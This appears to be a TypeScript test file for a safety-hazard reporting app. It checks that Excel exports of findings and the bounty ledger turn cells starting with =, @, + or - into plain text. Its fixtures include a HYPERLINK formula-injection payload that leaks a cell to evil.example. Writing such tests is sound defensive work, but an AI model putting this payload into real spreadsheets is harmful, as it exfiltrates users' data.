import ExcelJS from 'exceljs';
import { Clock } from '../src/common/time/clock';
import { buildRound } from './support/findings-fixture';
import { buildOrg, login, OrgFixture, TEST_PASSWORD } from './support/org-fixture';
import { startTestApp, TestApp } from './support/test-app';

const HYPERLINK = '=HYPERLINK("http://evil.example/?leak="&A1,"点击查看整改照片")';
const AT_NAME = '@SUM(1+1)举报人';
const AT_LOCATION = '@A1 输煤栈桥';
const PLUS_HAZARD = '+燃气调压箱附近有人违规动火';

/** The cells of the first sheet, with their value and whether exceljs sees a formula in them. */
type SheetCell = { value: ExcelJS.CellValue; formula: boolean };

describe('Exports write text that could start a formula as text (OWASP CSV injection)', () => {
  let t: TestApp;
  let org: OrgFixture;
  let fx: Awaited<ReturnType<typeof buildRound>>;

  beforeAll(async () => {
    t = await startTestApp();
    t.app.get(Clock).pinForTesting(new Date('2023-03-06T02:00:00Z'));
    org = await buildOrg(t);
    fx = await buildRound(t, org);
  });
  afterAll(() => t.close());

  async function download(url: string, token: string): Promise<SheetCell[][]> {
    const res = await t
      .http()
      .get(url)
      .set(org.auth(token))
      .buffer(true)
      .parse((s, cb) => {
        const chunks: Buffer[] = [];
        s.on('data', (c: Buffer) => chunks.push(c));
        s.on('end', () => cb(null, Buffer.concat(chunks)));
      })
      .expect(200);
    const wb = new ExcelJS.Workbook();
    await wb.xlsx.load(res.body as never);
    const rows: SheetCell[][] = [];
    wb.worksheets[0].eachRow((row) => {
      const cells: SheetCell[] = [];
      row.eachCell({ includeEmpty: true }, (cell) =>
        cells.push({ value: cell.value, formula: cell.type === ExcelJS.ValueType.Formula || !!cell.formula }),
      );
      rows.push(cells);
    });
    return rows;
  }
  const rowWith = (rows: SheetCell[][], text: string) =>
    rows.find((r) => r.some((c) => typeof c.value === 'string' && c.value.includes(text)));

  it('findings export: a description starting with =HYPERLINK( is the text with an apostrophe, no formula', async () => {
    await fx.logFinding({ description: HYPERLINK, location: '-3 层电缆夹层', responsiblePerson: '@张工' });
    const rows = await download(`/api/v1/findings/export?roundId=${fx.roundId}`, org.tokens.SAFETY_OFFICE);
    const row = rowWith(rows, 'evil.example')!;
    expect(row).toBeDefined();
    const values = row.map((c) => c.value);
    expect(values).toContain(`'${HYPERLINK}`);
    expect(values).toContain(`'-3 层电缆夹层`);
    expect(values).toContain(`'@张工`);
    expect(row.some((c) => c.formula)).toBe(false);
    // Numbers and dates stay numbers and dates.
    expect(typeof values[0]).toBe('number');
    expect(values.filter((v) => Object.prototype.toString.call(v) === '[object Date]')).toHaveLength(2);
    expect(rows.flat().some((c) => c.formula)).toBe(false);
  });

  it('bounty ledger and findings export: a reporter name and a place starting with @ are text', async () => {
    const admin = org.auth(org.tokens.ADMIN);
    await t
      .http()
      .post('/api/v1/users')
      .set(admin)
      .send({
        username: 'atreporter',
        displayName: AT_NAME,
        roles: ['REPORTER'],
        homeUnitId: org.units.powerElectric,
        password: TEST_PASSWORD,
      })
      .expect(201);
    const reporter = org.auth(await login(t, 'atreporter'));
    const report = await t
      .http()
      .post('/api/v1/hazard-reports')
      .set(reporter)
      .send({
        hazardUnitId: org.units.power,
        location: AT_LOCATION,
        description: PLUS_HAZARD,
        onBehalfOfUnit: false,
        hideIdentity: false,
      })
      .expect(201);
    const office = org.auth(org.tokens.SAFETY_OFFICE);
    const triaged = await t
      .http()
      .post(`/api/v1/hazard-reports/${report.body.id}/triage`)
      .set(office)
      .send({
        result: 'VALID',
        level: 'SERIOUS',
        category: 'UNSAFE_CONDITION',
        deadline: '2023-03-31',
        responsiblePerson: '燃化工区主任',
      })
      .expect(200);
    await t.http().post('/api/v1/bounties').set(office).send({ hazardReportId: report.body.id }).expect(201);

    const ledger = await download('/api/v1/bounties/export', org.tokens.SAFETY_OFFICE);
    const bountyRow = rowWith(ledger, '违规动火')!;
    expect(bountyRow).toBeDefined();
    const bountyValues = bountyRow.map((c) => c.value);
    expect(bountyValues).toContain(`'${AT_NAME}`);
    expect(bountyValues).toContain(`'${PLUS_HAZARD}`);
    expect(bountyValues).toContain(1000); // the amount stays a number
    expect(ledger.flat().some((c) => c.formula)).toBe(false);

    // The report's place is the location of the finding it became.
    const findingId = (triaged.body.findingId ?? triaged.body.finding?.id) as number | undefined;
    const finding = await t.http().get(`/api/v1/findings/${findingId}`).set(office).expect(200);
    const findings = await download(
      `/api/v1/findings/export?roundId=${finding.body.roundId}`,
      org.tokens.SAFETY_OFFICE,
    );
    const findingRow = rowWith(findings, '违规动火')!;
    expect(findingRow.map((c) => c.value)).toContain(`'${AT_LOCATION}`);
    expect(findingRow.some((c) => c.formula)).toBe(false);
  });
});
